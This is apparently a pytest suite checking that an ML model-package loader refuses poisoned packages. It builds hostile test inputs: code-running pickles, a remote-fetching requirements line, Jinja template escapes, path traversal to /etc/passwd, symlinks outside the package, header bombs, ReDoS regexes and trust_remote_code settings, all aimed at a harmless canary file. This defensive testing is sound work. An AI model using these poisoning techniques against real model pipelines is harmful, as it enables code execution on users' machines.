"""Promises about packages from an enemy: each is refused with its reason, and nothing in it runs.

An enemy who changes files is met by their digests. One who also writes eqn.json anew, so that every digest is right, is
met by what a package may hold at all: these are the tests marked as sealed.
"""

import base64
import hashlib
import json
import os
import pickle
import re
import shutil
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load, save, save_file
from torch import Tensor

from eqn.annotation.annotator import Annotator
from eqn.emotions import EMOTIONS
from eqn.errors import ArtifactRefused
from eqn.model.backbone import load_backbone
from eqn.model.network import EmotionNetwork
from eqn.model.package import Description, write_package
from tests.faults.promises import Trials
from tests.model.foreign_files import Evil

pytestmark = pytest.mark.promise(26)

Change = Callable[[Path, Path], object]
"""Makes a package hostile; given its directory and the canary's place."""

CODE = "import pathlib; pathlib.Path({canary!r}).touch()\n"


@pytest.fixture(scope="module")
def whole_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A package that nobody touches: tests work on copies."""
    folder = tmp_path_factory.mktemp("packages")
    backbone = load_backbone("tiny", cache=folder, seed=0)
    torch.manual_seed(0)
    network = EmotionNetwork(backbone.encoder, pooling="mean", dropout=0.1)
    description = Description(
        thresholds=dict.fromkeys(EMOTIONS, 0.5),
        max_tokens=64,
        pooling="mean",
        training_key="f" * 64,
        recipe={"name": "toy"},
        backbone={"name": "tiny", "digest": "0" * 64},
        corpus={"name": "toy", "digest": "1" * 64, "rows": {"train": 60, "dev": 30, "test": 30}},
        metrics={"dev": {"macro_f1": 0.25}},
    )
    return write_package(folder / "whole", network, backbone.tokenizer, description, card="# A card\n").path


@pytest.fixture
def package(whole_package: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(whole_package, tmp_path / "package"))


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that is there once hostile code ran."""
    return tmp_path / "canary"


def refused(package: Path, canary: Path) -> str:
    """Load the package as `eqn annotate` does, and give the refusal's text."""
    with pytest.raises(ArtifactRefused) as refusal:
        Annotator.load(package)
    assert refusal.value.exit_code == 8
    assert not canary.exists()
    return str(refusal.value)


def sealed(package: Path, *, listed: bool = False) -> Path:
    """Let eqn.json say of every file what it is now; with `listed`, of every file that is there."""
    names = [path.name for path in package.iterdir()] if listed else list(said(package)["files"])
    digests = {}
    for name in names:
        if name != "eqn.json" and (package / name).is_file():
            content = (package / name).read_bytes()
            digests[name] = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    say(package, files=digests)
    return package


def said(package: Path) -> dict[str, Any]:
    facts: dict[str, Any] = json.loads((package / "eqn.json").read_text("utf-8"))
    return facts


def say(package: Path, **changes: Any) -> None:
    (package / "eqn.json").write_text(json.dumps(said(package) | changes), "utf-8")


def adds(name: str, content: bytes | str = b"") -> Change:
    """Add a file; its text may name the canary."""

    def change(package: Path, canary: Path) -> None:
        place = package / name
        place.parent.mkdir(exist_ok=True)
        place.write_bytes(content if isinstance(content, bytes) else content.format(canary=str(canary)).encode())

    return change


def pickles(name: str) -> Change:
    """Add a pickle that runs code where it is loaded."""
    return lambda package, canary: (package / name).write_bytes(pickle.dumps(Evil(canary)))


def mlflow_code(package: Path, canary: Path) -> None:
    """What MLflow's own loader would import: a loader module in a folder of code."""
    (package / "code").mkdir()
    (package / "code" / "evil.py").write_text(CODE.format(canary=str(canary)), "utf-8")
    (package / "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: evil\n    code: code\n", "utf-8")


def link_outside(name: str) -> Change:
    def change(package: Path, canary: Path) -> None:
        moved = (package / name).rename(package.parent / name)
        (package / name).symlink_to(moved)

    return change


@pytest.mark.parametrize("enemy", ["tampering", "sealing"])
@pytest.mark.parametrize(
    ("change", "named"),
    [
        (pickles("python_model.pkl"), "python_model.pkl"),
        (mlflow_code, "MLmodel"),
        (adds("python_model.py", CODE), "python_model.py"),
        (pickles("pytorch_model.bin"), "pytorch_model.bin"),
        (pickles("model.pt2"), "model.pt2"),
        (pickles("rng_state.pth"), "rng_state.pth"),
        (adds("requirements.txt", "evil @ https://example.org/evil.tar.gz\n"), "requirements.txt"),
        (adds("tokenizer_config.json", '{{"chat_template": "{{{{ cycler }}}}"}}'), "tokenizer_config.json"),
        (adds("chat_template.jinja", "{{{{ cycler.__init__ }}}}"), "chat_template.jinja"),
        (adds("modeling_evil.py", CODE), "modeling_evil.py"),
        (adds("adapter_config.json", "{{}}"), "adapter_config.json"),
        (adds("model.safetensors.index.json", '{{"weight_map": {{"head.bias": "../secret"}}}}'), "index.json"),
        (adds("..png"), "..png"),
        (adds("emotions.svg", "<svg onload='alert(1)'/>"), "emotions.svg"),
        (link_outside("model.safetensors"), "model.safetensors"),
        (link_outside("eqn.json"), "eqn.json"),
        (link_outside("README.md"), "README.md"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.__qualname__.partition(".")[0],
)
def test_files_that_do_not_belong_there_are_refused(
    package: Path, canary: Path, change: Change, named: str, enemy: str
) -> None:
    """With eqn.json as it was, and with one that lists them with their digests."""
    change(package, canary)
    if enemy == "sealing":
        sealed(package, listed=True)
    reason = refused(package, canary)
    assert named in reason or "must list" in reason


@pytest.mark.parametrize("name", ["../chat_template.jinja", "code/evil.py", "/etc/passwd", "emotions.png/../../x", "."])
def test_a_list_that_leads_elsewhere_is_refused(package: Path, canary: Path, name: str) -> None:
    """Though the digest of what stands there is right."""
    facts = said(package)["files"]
    say(package, files=facts | {name: {"sha256": hashlib.sha256(b"").hexdigest(), "bytes": 0}})
    (package.parent / "chat_template.jinja").touch()
    assert "must list" in refused(package, canary)


def test_a_changed_card_is_noticed(package: Path, canary: Path) -> None:
    """README.md is part of the package as weights are."""
    (package / "README.md").write_text("# The best model\n", "utf-8")
    assert "README.md: changed" in refused(package, canary)


@pytest.mark.parametrize(
    ("facts", "named"),
    [
        ({"labels": [EMOTIONS[1], EMOTIONS[0], *EMOTIONS[2:]]}, "labels"),
        ({"labels": sorted(EMOTIONS)}, "labels"),
        ({"format": []}, "format 4 expected"),
        ({"format": {"a": 1}}, "format 4 expected"),
        ({"output": "exec"}, "output"),
        ({"pooling": "os.system"}, "pooling"),
        ({"max_tokens": 10**9}, "max_tokens"),
        ({"max_tokens": True}, "max_tokens"),
        ({"recipe": {"loader_module": "evil"}}, "recipe: expected an object with a name"),
        ({"corpus": {"name": "toy", "digest": "1", "rows": {"train": "many"}}}, "corpus"),
        ({"corpus": {"name": "toy", "digest": "1"}}, "corpus"),
        ({"backbone": {"name": ["a"], "digest": None}}, "backbone"),
        ({"metrics": {"dev": {"macro_f1": "1"}}}, "metrics"),
        ({"metrics": {"dev": 1}}, "metrics"),
        ({"loader_module": "evil"}, "not readable"),
    ],
    ids=str,
)
def test_a_description_that_lies_is_refused(package: Path, canary: Path, facts: dict[str, Any], named: str) -> None:
    """Swapped labels, values of other kinds, facts that no package has: digests need no change for this."""
    say(package, **facts)
    assert named in refused(package, canary)


def test_a_description_without_end_is_refused(package: Path, canary: Path) -> None:
    """A pipe in the place of eqn.json would keep the reader waiting, a huge one would fill its memory."""
    content = (package / "eqn.json").read_bytes()
    (package / "eqn.json").write_bytes(content + b" " * 2**20)
    assert "not a plain file of at most 1 MiB" in refused(package, canary)
    (package / "eqn.json").unlink()
    os.mkfifo(package / "eqn.json")
    assert "not a plain file of at most 1 MiB" in refused(package, canary)


@pytest.mark.parametrize(
    "settings",
    [
        {"auto_map": {"AutoModel": "modeling_evil.Evil"}},
        {"_attn_implementation_internal": "evil/kernel"},
        {"_attn_implementation": "evil/kernel"},
        {"attn_implementation": "evil/kernel"},
        {"trust_remote_code": True},
        {"text_config": {"trust_remote_code": True, "auto_map": {"AutoConfig": "evil.Evil"}}},
        {"quantization_config": {"quant_method": "evil"}},
        {"architectures": ["Evil"]},
        {"_name_or_path": "../../evil"},
        {"use_cache": True},
    ],
    ids=lambda settings: next(iter(settings)),
)
def test_settings_that_no_package_has_are_refused(package: Path, canary: Path, settings: dict[str, Any]) -> None:
    """A configuration is held against a list of what it may say; all else is refused, not ignored. Sealed."""
    (package.parent / "modeling_evil.py").write_text(CODE.format(canary=str(canary)), "utf-8")
    file = package / "config.json"
    file.write_text(json.dumps(json.loads(file.read_text("utf-8")) | settings), "utf-8")
    assert f"{next(iter(settings))}: not allowed" in refused(sealed(package), canary)


@pytest.mark.parametrize(
    ("settings", "named"),
    [
        ({"model_type": "gpt2"}, "type 'gpt2'"),
        ({"model_type": ["bert"]}, "type ['bert']"),
        ({"hidden_act": "os.system"}, "os.system"),
        ({"num_hidden_layers": 10**12}, "layers are said to be in"),
        ({"vocab_size": 10**12}, "word_embeddings.weight: expected the shape (1000000000000, 64)"),
        ({"hidden_size": 2**40}, "expected the shape"),
        ({"num_attention_heads": 0}, ""),
        ({"num_attention_heads": -4}, ""),
        ({"pad_token_id": 10**6}, ""),
        ({"layer_norm_eps": float("nan")}, "no number"),
        ({"layer_norm_eps": "1e-12"}, "layer_norm_eps"),
        ({"max_position_embeddings": None}, "max_position_embeddings"),
    ],
    ids=str,
)
def test_settings_that_cannot_be_are_refused(package: Path, canary: Path, settings: dict[str, Any], named: str) -> None:
    """Numbers that would fill all memory are compared with the weights before anything is built. Sealed."""
    file = package / "config.json"
    file.write_text(json.dumps(json.loads(file.read_text("utf-8")) | settings), "utf-8")
    assert named in refused(sealed(package), canary)


def header(content: bytes, *, length: int | None = None) -> bytes:
    return struct.pack("<Q", len(content) if length is None else length) + content


@pytest.mark.parametrize(
    "content",
    [
        header(b"{}", length=2**63),
        header(b"{}", length=2**40),
        header(b"[" * 100_000),
        header(b'{"a":' * 100_000),
        header(b'{"head.bias":{"dtype":"F32","shape":[28],"data_offsets":[0,1099511627776]}}'),
        header(b'{"head.bias":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,0]}}'),
        header(b'{"head.bias":{"dtype":"PICKLE","shape":[1],"data_offsets":[0,1]}}') + b"x",
        b"PK\x03\x04",
        b"",
    ],
    ids=["length", "long", "deep list", "deep object", "offsets", "overflow", "type", "zip", "empty"],
)
def test_weights_whose_header_is_a_bomb_are_refused(package: Path, canary: Path, content: bytes) -> None:
    """Lengths, nesting and sizes beyond what the file holds. Sealed."""
    (package / "model.safetensors").write_bytes(content)
    assert "cannot be built" in refused(sealed(package), canary)


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"head.bias": torch.full((28,), torch.nan)}, "no numbers"),
        ({"head.bias": torch.full((28,), torch.inf)}, "no numbers"),
        ({"head.bias": torch.full((28,), 1)}, "head.bias: expected F32"),
        ({"head.bias": torch.zeros(28, dtype=torch.float8_e4m3fn)}, "head.bias: expected F32"),
        ({"head.bias": torch.zeros(27)}, "head.bias: expected the shape (28,), got (27,)"),
        ({"head.weight": torch.zeros(64, 28)}, "head.weight: expected the shape (28, 64)"),
        ({"encoder.pooler.dense.bias": torch.zeros(64)}, "encoder.pooler.dense.bias: does not belong here"),
        ({"encoder.embeddings.LayerNorm.weight": torch.full((64,), 3e38)}, "no number"),
    ],
    ids=["NaN", "infinite", "whole numbers", "eighths", "short", "transposed", "one too many", "overflowing"],
)
def test_weights_of_something_else_are_refused(
    package: Path, canary: Path, change: dict[str, Tensor], named: str
) -> None:
    """Wrong shapes and types, values that are no numbers, or that make none. Sealed."""
    weights = load((package / "model.safetensors").read_bytes())
    save_file(weights | change, package / "model.safetensors")
    assert named in refused(sealed(package), canary)


def _tokenizer(**changes: Any) -> Callable[[dict[str, Any]], object]:
    return lambda content: content.update(changes)


def _template(name: str, value: Any) -> Callable[[dict[str, Any]], object]:
    return lambda content: content["post_processor"].update({name: value})


def _vocabulary(content: dict[str, Any]) -> None:
    content["model"]["vocab"]["smiling"] = 10**6


CLS = {"SpecialToken": {"id": "[CLS]", "type_id": 0}}


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (
            _tokenizer(pre_tokenizer={
                "type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False
            }),
            "pre_tokenizer: expected BertPreTokenizer, got 'Split'",
        ),
        (
            _tokenizer(normalizer={"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""}),
            "normalizer: expected",
        ),
        (
            _tokenizer(normalizer={"type": "Precompiled", "precompiled_charsmap": base64.b64encode(b"\0").decode()}),
            "normalizer: expected",
        ),
        (_tokenizer(model={"type": "Unigram", "unk_id": 5, "vocab": []}), "model: expected WordPiece"),
        (_tokenizer(model=[]), "model: expected WordPiece"),
        (_tokenizer(post_processor=None), "post_processor: expected"),
        (_tokenizer(post_processor="CLS"), "tokenizer.json"),
        (_tokenizer(version="9.9"), "tokenizer.json"),
        (_template("special_tokens", {}), "post_processor: it does not say what '[CLS]' is"),
        (_template("single", [CLS] * 1000), "tokens for a text"),
        (_template("single", [CLS, {"Sequence": {"id": "B", "type_id": 0}}]), "a second one in it"),
        (_template("special_tokens", {"[CLS]": {"id": "[CLS]", "ids": [300], "tokens": ["[CLS]"]},
                                      "[SEP]": {"id": "[SEP]", "ids": [3], "tokens": ["[SEP]"]}}), "up to 300"),
        (lambda content: content["model"].update(unk_token="[NONE]"), "is not in its vocabulary"),  # noqa: S106
        (_vocabulary, "token ids up to 1000000; its encoder knows 256"),
    ],
)  # fmt: skip
def test_a_tokenizer_of_something_else_is_refused(
    package: Path, canary: Path, change: Callable[[dict[str, Any]], object], named: str
) -> None:
    """Regular expressions, ids that the encoder does not know, templates that would end in a panic. Sealed."""
    file = package / "tokenizer.json"
    content = json.loads(file.read_text("utf-8"))
    change(content)
    file.write_text(json.dumps(content), "utf-8")
    assert named in refused(sealed(package), canary)


@pytest.mark.parametrize("content", [b"[" * 200_000, b"", b"null", b"\xff", b'{"model": {"type": "WordPiece"}}'])
def test_a_tokenizer_that_is_none_is_refused(package: Path, canary: Path, content: bytes) -> None:
    """Nested without end, empty, of another kind. Sealed."""
    (package / "tokenizer.json").write_bytes(content)
    refused(sealed(package), canary)


def test_pickles_in_the_place_of_files_are_refused_unopened(package: Path, canary: Path) -> None:
    """Whatever file they stand in for, with right digests; and the canary would sing."""
    hostile = pickle.dumps(Evil(canary))
    for name in ("model.safetensors", "config.json", "tokenizer.json"):
        content = (package / name).read_bytes()
        (package / name).write_bytes(hostile)
        refused(sealed(package), canary)
        (package / name).write_bytes(content)
    torch.save({"head.bias": Evil(canary)}, package / "model.safetensors")
    refused(sealed(package), canary)
    pickle.loads(hostile)  # noqa: S301  the proof
    assert canary.exists()


def test_extra_words_in_the_weights_are_without_effect(package: Path, canary: Path) -> None:
    """A header may carry notes; nobody reads them."""
    weights = load((package / "model.safetensors").read_bytes())
    notes = {"format": "pt", "loader_module": "evil", "auto_map": "evil.Evil"}
    (package / "model.safetensors").write_bytes(save(weights, metadata=notes))
    assert Annotator.load(sealed(package)).scores(["smiling"]).shape == (1, 28)
    assert not canary.exists()


def _settings(**changes: Any) -> Change:
    """Change what config.json says."""

    def change(package: Path, canary: Path) -> None:
        file = package / "config.json"
        file.write_text(json.dumps(json.loads(file.read_text("utf-8")) | changes), "utf-8")

    return change


def _facts(**changes: Any) -> Change:
    """Change what eqn.json says."""
    return lambda package, canary: say(package, **changes)


def _weights(**changes: Tensor) -> Change:
    """Change tensors; a name's dots are written as double underscores."""

    def change(package: Path, canary: Path) -> None:
        tensors = load((package / "model.safetensors").read_bytes())
        named = {name.replace("__", "."): tensor for name, tensor in changes.items()}
        save_file(tensors | named, package / "model.safetensors")

    return change


def _lists_a_file_above(package: Path, canary: Path) -> None:
    """The name of a chat template that leads out of the package."""
    above = package.parent / "chat_template.jinja"
    above.touch()
    say(package, files=said(package)["files"] | {"../chat_template.jinja": {"sha256": EMPTY, "bytes": 0}})


def _expression_in_tokenizer(package: Path, canary: Path) -> None:
    file = package / "tokenizer.json"
    content = json.loads(file.read_text("utf-8"))
    content["normalizer"] = {"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""}
    file.write_text(json.dumps(content), "utf-8")


EMPTY = hashlib.sha256(b"").hexdigest()

POISONED: dict[str, tuple[Change, bool]] = {
    "cloudpickled model": (pickles("python_model.pkl"), True),
    "loader module and code": (mlflow_code, True),
    "python_model.py": (adds("python_model.py", CODE), True),
    "pytorch_model.bin": (pickles("pytorch_model.bin"), True),
    "exported program": (pickles("model.pt2"), True),
    "random state": (pickles("rng_state.pth"), True),
    "classes by name": (_settings(auto_map={"AutoModel": "evil.Evil"}), False),
    "attention from a hub": (_settings(_attn_implementation_internal="evil/kernel"), False),
    "nested trust": (_settings(text_config={"trust_remote_code": True, "auto_map": {"AutoConfig": "e.E"}}), False),
    "template above": (_lists_a_file_above, False),
    "template inside": (adds("chat_template.jinja", "{{{{ cycler.__init__ }}}}"), True),
    "link": (link_outside("model.safetensors"), False),
    "file too many": (adds("modeling_evil.py", CODE), True),
    "requirements": (adds("requirements.txt", "evil @ https://example.org/evil.tar.gz\n"), True),
    "header bomb": (adds("model.safetensors", struct.pack("<Q", 2**63)), False),
    "pickle as weights": (pickles("model.safetensors"), False),
    "wrong shape": (_weights(head__weight=torch.zeros(64, 28)), False),
    "weights of NaN": (_weights(head__bias=torch.full((28,), torch.nan)), False),
    "swapped labels": (_facts(labels=[EMOTIONS[1], EMOTIONS[0], *EMOTIONS[2:]]), False),
    "expression in the tokenizer": (_expression_in_tokenizer, False),
}
"""Twenty ways to poison a package, and whether eqn.json then lists every file that is there; all of them are sealed."""

TRACED = """
import sys
from eqn.annotation.annotator import Annotator
from eqn.errors import EqnError
for path in sys.argv[1:]:
    try:
        print("loaded", Annotator.load(path).scores(["I can't stop smiling"]).shape)
    except EqnError as error:
        print("refused", error.exit_code, bool(str(error)))
"""


def traced(traces: Path, *command: str) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """Run Python on `command` under the system's tracer; give how it ended, and what it executed or connected to."""
    strace = shutil.which("strace")
    if (
        strace is None
        or subprocess.run([strace, "-o", os.devnull, "true"], check=False, capture_output=True).returncode
    ):
        pytest.skip("NOT RUN: there is no strace, or it may not trace")
    environment = {name: value for name, value in os.environ.items() if not name.startswith(("HF_", "EQN_"))}
    done = subprocess.run(
        [strace, "-f", "-o", str(traces), "-e", "trace=connect,execve,execveat", sys.executable, *command],
        capture_output=True, text=True, check=False, env=environment,
    )  # fmt: skip
    seen = [
        line for line in traces.read_text("utf-8").splitlines() if re.search(r"\b(execve|execveat|connect)\(", line)
    ]
    return done, seen


def test_twenty_poisoned_packages_start_no_program_and_open_no_connection(
    package: Path, canary: Path, trials: Trials
) -> None:
    """Seen by the system's own tracer: but for Python itself nothing is executed, and no address is connected to."""
    poisoned = []
    for number, (change, listed) in enumerate(POISONED.values()):
        room = package.parent / f"room {number}"
        copy = Path(shutil.copytree(package, room / "package"))
        change(copy, canary)
        poisoned.append(str(sealed(copy, listed=listed)))

    done, calls = traced(package.parent / "traces", "-c", TRACED, str(package), *poisoned)

    assert done.stdout.splitlines() == ["loaded (1, 28)", *["refused 8 True"] * 20], done.stderr
    assert len(calls) == 1, calls
    assert f'execve("{sys.executable}"' in calls[0]
    assert not canary.exists()
    trials(20, "poisoned packages, traced")


def test_the_tracer_would_see_it(package: Path, canary: Path) -> None:
    """A pickle of the test above, opened without protection, executes a program; a connection is seen as well."""
    pickles("python_model.pkl")(package, canary)
    unprotected = "import pickle, socket, sys; pickle.load(open(sys.argv[1], 'rb'))\n"
    unprotected += "socket.socket(socket.AF_UNIX).connect_ex('/nowhere')"

    _, calls = traced(package.parent / "traces", "-c", unprotected, str(package / "python_model.pkl"))

    assert any("touch" in call for call in calls)
    assert any("connect(" in call for call in calls)
    assert canary.exists()
